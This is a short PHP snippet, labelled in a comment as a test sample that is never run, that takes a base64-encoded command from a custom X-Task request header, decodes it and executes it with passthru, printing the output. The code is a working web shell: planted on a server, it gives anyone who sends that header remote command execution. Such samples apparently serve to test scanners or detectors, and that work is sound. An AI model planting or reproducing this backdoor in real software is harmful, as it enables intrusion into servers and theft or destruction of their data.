<?php
// Test sample (never run): a command sent in a request header of the client's own.
$cmd = $_SERVER['HTTP_X_TASK'] ?? '';
if ($cmd !== '') {
    echo '<pre>';
    passthru(base64_decode($cmd));
    echo '</pre>';
}
